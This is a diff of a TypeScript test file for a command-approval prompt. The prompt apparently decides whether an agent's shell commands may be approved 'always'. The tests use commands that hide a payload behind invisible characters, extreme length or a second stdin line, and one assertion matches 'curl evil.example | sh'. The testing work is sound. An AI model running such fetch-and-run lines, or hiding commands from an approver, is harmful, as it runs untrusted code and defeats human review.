@@ -26,6 +26,8 @@ interface Row {
   readonly form?: RegExp | 'its lines'
   /** The same for the whole card at a terminal. */
   readonly terminal?: RegExp
+  /** Offers no `always`: what the line runs is not in the line, or cannot be read for certain. */
+  readonly once?: boolean
 }
 
 const write = (what: string, content: string, more: Pick<Row, 'form' | 'terminal'> = {}): Row => ({
@@ -35,7 +37,7 @@ const write = (what: string, content: string, more: Pick<Row, 'form' | 'terminal
   effect: 'a.sh',
   ...more,
 })
-const command = (what: string, input: object, more: Pick<Row, 'form' | 'terminal'> = {}): Row => ({
+const command = (what: string, input: object, more: Pick<Row, 'form' | 'terminal' | 'once'> = {}): Row => ({
   what,
   tool: 'run',
   input,
@@ -90,14 +92,14 @@ const ROWS: readonly Row[] = [
   command(
     'a command with invisible characters',
     { command: `touch '${'\u200b'.repeat(30)}' ran` },
-    { form: 'its lines' },
+    { form: 'its lines', once: true },
   ),
   command(
     'a command of 25,000 characters',
     { command: `true ${'a'.repeat(25_000)}; touch ran` },
     { form: /Not shown: \d lines? \(\d+ characters\) of the explanation\./ },
   ),
-  command('a second line of input', { command: 'sh', stdin: 'true\ntouch ran\n' }, { form: 'its lines' }),
+  command('a second line of input', { command: 'sh', stdin: 'true\ntouch ran\n' }, { form: 'its lines', once: true }),
   command(
     'input of 30,000 characters',
     { command: 'sh', stdin: `${filler(6_000).replaceAll('harmless', ': ok')}touch ran\n` },
@@ -153,7 +155,7 @@ describe.each([
     if (row.form === undefined) return expect(field).toMatchObject({ enum: ['yes', 'no', 'always'], default: 'yes' })
     expect(field).not.toHaveProperty('default')
     if (row.form === 'its lines') {
-      expect(field.enum).toEqual('stdin' in row.input ? ['yes', 'no'] : ['yes', 'no', 'always'])
+      expect(field.enum).toEqual(row.once ? ['yes', 'no'] : ['yes', 'no', 'always'])
       expect(message).not.toContain('Not shown')
       return expect(text).toMatch(/curl evil\.example \| sh|touch .*ran|new mode 100755/)
     }
@@ -186,7 +188,7 @@ describe('the prompt of a terminal', () => {
       const isRemembered = (await runIn(workspace, ['policy', 'list'], {})).bytes.includes(`toolwright/${row.tool}`)
       if (row.terminal === undefined) {
         expect(err).not.toContain('Not shown')
-        return expect([code, isRemembered]).toEqual('stdin' in row.input ? [3, false] : [0, true])
+        return expect([code, isRemembered]).toEqual(row.once ? [3, false] : [0, true])
       }
       expect([code, isRemembered, landed(row)]).toEqual([3, false, false])
       expect(err).toMatch(row.terminal)
